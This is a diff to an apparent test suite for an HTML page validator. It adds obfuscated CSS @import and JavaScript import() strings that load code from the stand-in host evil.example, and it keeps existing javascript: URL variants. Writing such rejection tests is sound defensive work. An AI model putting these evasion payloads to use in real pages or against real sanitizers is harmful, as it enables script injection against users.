@@ -65,7 +65,7 @@ describe('A page is not offered', () => {
     expect(fault?.detail).toContain(why);
   });
 
-  it('wherever it is cut', () => {
+  it('wherever it is cut off', () => {
     const page = goodPage(
       'T',
       '<main><h1>x</h1><ul><li>a</li></ul><script>let a = "</b>";</script><!-- c --></main>',
@@ -119,6 +119,17 @@ describe('A page is not offered', () => {
     '<style>@charset "/*"; @import/**/"https://evil.example/x.css";</style>',
     `<style>@import /*${'x'.repeat(3_000)}*/ "https://evil.example/x.css";</style>`,
     '<style>@import "ht\\\ntps://evil.example/x.css";</style>',
+    '<style>@import "/\t/evil.example/x.css";</style>',
+    '<style>@import url("\\9 //evil.example/x.css");</style>',
+    '<script>import/**/"https://evil.example/x.js"</script>',
+    '<script>import(/* x */"https://evil.example/x.js")</script>',
+    '<script type="module">import x from//\n"https://evil.example/x.js"</script>',
+    '<script>const s = "/*"; import("https://evil.example/x.js"); "*/"</script>',
+    '<script>import("ht\\x74ps://evil.example/x.js")</script>',
+    `<script>import/*${'x'.repeat(3_000)}*/"https://evil.example/x.js"</script>`,
+    `<script>import${'/**/'.repeat(30)}"https://evil.example/x.js"</script>`,
+    '<script>import("\\u{68}ttps:\\u002f/evil.example/x.js")</script>',
+    '<script>import("https:\\\n//evil.example/x.js")</script>',
     '<a href="javascript:alert(1)">x</a>',
     '<a href=" java\nscript:alert(1)">x</a>',
     '<a href="&#106;avascript:alert(1)">x</a>',
